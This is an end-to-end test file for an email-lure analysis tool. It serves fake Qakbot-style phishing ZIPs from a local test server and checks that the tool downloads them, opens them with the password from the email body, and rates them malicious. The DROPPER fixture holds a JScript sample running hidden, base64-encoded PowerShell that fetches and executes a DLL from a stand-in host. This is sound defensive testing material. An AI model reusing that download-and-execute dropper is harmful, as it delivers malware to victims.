// End to end through the CLI, as an analyst runs it: a lure whose link serves an encrypted ZIP from a test
// payload server on 127.0.0.1 (under a realistic domain name pinned with --resolve), opened with the password
// the email body states.

import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { analyze } from '../src/analyze.ts';
import { defaultConfig } from '../src/config.ts';
import type { EngineConfig } from '../src/engine/types.ts';
import { openServices } from '../src/services.ts';
import type { Report } from '../src/verdict/report.ts';
import { htmlOnlyLure, qakbotLure } from './generators/email.ts';
import { startPayloadServer, type PayloadServer } from './generators/payload-server.ts';
import { makeZip } from './generators/zip.ts';

const DROPPER = 'var s = new ActiveXObject("WScript.Shell");\ns.Run("powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHgALgBlAHgAYQBtAHAAbABlAC8AMQAuAGQAbABsACkA", 0);\n';

let server: PayloadServer;
let dir: string;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tacklebox-links-'));
  server = await startPayloadServer({
    // Payload servers answer Windows browsers only; the downloader must look like one.
    '/wp-content/uploads/Invoice_4411.zip': {
      body: await makeZip([{ name: 'Invoice_4411.js', data: DROPPER }], { password: 'Inv4411', encryption: 'zipcrypto' }),
      type: 'application/zip',
      userAgent: /Windows NT/,
    },
    '/report/view': { redirect: '/files/Security_Report_0091.zip' },
    '/files/Security_Report_0091.zip': {
      body: await makeZip([{ name: 'Security_Report_0091.js', data: DROPPER }], { password: 'Kx-77310', encryption: 'aes256' }),
      type: 'application/octet-stream',
      headers: { 'content-disposition': 'attachment; filename="Security_Report_0091.zip"' },
      userAgent: /Windows NT/,
    },
  });
});

after(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

async function analyzeWithCli(file: string, extra: string[] = []): Promise<{ report: Report; status: number; stderr: string }> {
  const args = ['bin/tacklebox.js', 'analyze', file, '--json', '--fetch', 'live', '--allow-host', '127.0.0.1', '--resolve', 'invoices.example=127.0.0.1', ...extra];
  const child = spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += d));
  child.stderr.on('data', (d) => (stderr += d));
  const status = await new Promise<number>((resolve) => child.once('close', (code) => resolve(code ?? -1)));
  assert.ok(stdout.trim().startsWith('{'), `no JSON report; stderr: ${stderr}`);
  return { report: JSON.parse(stdout) as Report, status, stderr };
}

function chainOf(report: Report, leafName: string): Report['artifacts'] {
  const byId = new Map(report.artifacts.map((a) => [a.id, a]));
  const chain: Report['artifacts'] = [];
  for (let a = report.artifacts.find((x) => x.name === leafName); a; a = a.parent ? byId.get(a.parent) : undefined) chain.unshift(a);
  return chain;
}

test('a lure whose link serves a ZipCrypto ZIP: fetched, opened with the password from the body', async () => {
  const url = server.url('/wp-content/uploads/Invoice_4411.zip', 'invoices.example');
  const file = join(dir, 'lure.eml');
  await writeFile(file, qakbotLure({ url, password: 'Inv4411' }));
  const { report, status } = await analyzeWithCli(file);

  const chain = chainOf(report, 'Invoice_4411.js');
  assert.deepEqual(chain.map((a) => a.relation).slice(-3), ['link', 'downloaded', 'extracted'], JSON.stringify(report.artifacts));
  const [link, zip, script] = chain.slice(-3);
  assert.equal(link!.kind, 'url');
  assert.equal(zip!.kind, 'zip');
  assert.equal(script!.kind, 'jscript');
  const fetch = (link!.facts as { fetch: { status: number; finalUrl: string; address: string } }).fetch;
  assert.equal(fetch.status, 200);
  assert.equal(fetch.finalUrl, url);
  assert.equal(fetch.address, '127.0.0.1');

  const password = report.passwords.find((p) => p.value === 'Inv4411');
  assert.deepEqual(password?.opened, [zip!.id]);
  assert.ok(report.findings.some((f) => f.id === 'archive.encrypted.password-in-body' && f.artifact === zip!.id));
  assert.equal(report.verdict, 'malicious');
  assert.equal(status, 1, 'exit status 1: something malicious');
  assert.match(server.requests.find((r) => r.path.endsWith('Invoice_4411.zip'))!.headers['user-agent']!, /Windows NT/);
});

test('an HTML-only lure linking (through a redirect) to an AES-256 ZIP: opened with the password from the HTML body', async () => {
  const url = server.url('/report/view', 'invoices.example');
  const file = join(dir, 'html-lure.eml');
  await writeFile(file, htmlOnlyLure({ url, password: 'Kx-77310' }));
  const { report } = await analyzeWithCli(file);

  const chain = chainOf(report, 'Security_Report_0091.js');
  const zip = chain.find((a) => a.relation === 'downloaded')!;
  assert.equal(zip.name, 'Security_Report_0091.zip', 'named from Content-Disposition');
  assert.equal(zip.kind, 'zip');
  const link = report.artifacts.find((a) => a.id === zip.parent)!;
  const fetch = (link.facts as { fetch: { redirects: { url: string; status: number }[]; finalUrl: string } }).fetch;
  assert.deepEqual(fetch.redirects.map((r) => r.status), [302, 200]);
  assert.equal(fetch.finalUrl, server.url('/files/Security_Report_0091.zip', 'invoices.example'));
  assert.deepEqual(report.passwords.find((p) => p.value === 'Kx-77310')?.opened, [zip.id]);
  assert.ok(report.iocs.some((i) => i.type === 'url' && i.value === fetch.finalUrl));
});

// The next two run in-process (same analyze() and services the CLI uses) to keep the suite fast.
async function analyzeInProcess(mail: string, fetch: Partial<EngineConfig['fetch']>): Promise<Report> {
  const config = defaultConfig();
  config.fetch = { ...config.fetch, ...fetch };
  const { services, close } = await openServices(config);
  try {
    return await analyze({ name: 'lure.eml', data: new TextEncoder().encode(mail) }, config, services);
  } finally {
    await close();
  }
}

test('without --fetch live nothing is fetched: the link stays a link', async () => {
  const before = server.requests.length;
  const mail = qakbotLure({ url: server.url('/wp-content/uploads/Invoice_4411.zip', 'invoices.example'), password: 'Inv4411' });
  const report = await analyzeInProcess(mail, { mode: 'off', allowHosts: ['127.0.0.1'], resolve: { 'invoices.example': '127.0.0.1' } });
  assert.ok(report.artifacts.some((a) => a.kind === 'url'));
  assert.ok(!report.artifacts.some((a) => a.relation === 'downloaded'));
  assert.equal(server.requests.length, before);
});

test('a link to 127.0.0.1 that the analyst did not allow is refused and reported', async () => {
  const before = server.requests.length;
  const mail = qakbotLure({ url: `http://2130706433:${server.port}/wp-content/uploads/Invoice_4411.zip`, password: 'Inv4411' });
  const report = await analyzeInProcess(mail, { mode: 'live' });
  const refused = report.findings.find((f) => f.id === 'download.refused');
  assert.ok(refused, JSON.stringify(report.findings.map((f) => f.id)));
  assert.match(refused.evidence, /loopback/);
  assert.equal(server.requests.length, before);
});
